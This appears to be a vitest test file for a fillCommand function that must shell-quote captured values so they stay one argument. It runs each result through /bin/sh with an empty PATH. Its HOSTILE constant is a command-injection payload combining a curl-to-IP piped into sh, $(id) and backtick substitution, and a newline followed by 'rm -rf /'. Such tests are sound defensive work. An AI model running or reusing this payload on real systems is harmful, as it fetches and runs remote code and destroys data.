import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { fillCommand } from './fill-captures.js';

/** The arguments POSIX sh reads from a line (PATH empty: nothing outside the shell can run). */
function argv(line: string): string[] {
  const result = spawnSync('/bin/sh', ['-c', `set -- ${line}\nprintf '%s\\0' "$@"`], {
    env: { PATH: '' },
    encoding: 'utf8',
  });
  return result.stdout.split('\0').slice(0, -1);
}

const HOSTILE = 'x";curl${IFS}2130706433|sh;"\'$(id)\'`id`\nrm -rf /';

describe('fillCommand: a capture (a user rule’s {name} too) is one word wherever the template puts it', () => {
  it.each([
    ['bare', 'pip install {v}', ['pip', 'install', HOSTILE.replace('\n', ' ')]],
    ['in double quotes', 'pip install "{v}==1"', ['pip', 'install', `${HOSTILE.replace('\n', ' ')}==1`]],
    [
      'in single quotes',
      "ss -ltnp 'sport = :{v}'",
      ['ss', '-ltnp', `sport = :${HOSTILE.replace('\n', ' ')}`],
    ],
    ['after an apostrophe in words', "the model's {v}", ['the', 'models', HOSTILE.replace('\n', ' ')]],
  ])('%s', (_where, template, words) => {
    const filled = fillCommand(template, { v: HOSTILE });
    expect(filled).not.toContain('\n');
    if (template.startsWith('the model')) {
      // Prose: the apostrophe is not a quote, so the capture after it is quoted as a word of its own.
      expect(filled).toBe(`the model's '${HOSTILE.replace('\n', ' ').replace(/'/g, `'\\''`)}'`);
      return;
    }
    expect(argv(filled)).toEqual(words);
  });

  it('leaves plain values as they are, and an unknown {name} as written', () => {
    expect(fillCommand('pip install "{pkg}=={want}" {other}', { pkg: 'vllm', want: '0.11.0' })).toBe(
      'pip install "vllm==0.11.0" {other}',
    );
  });
});
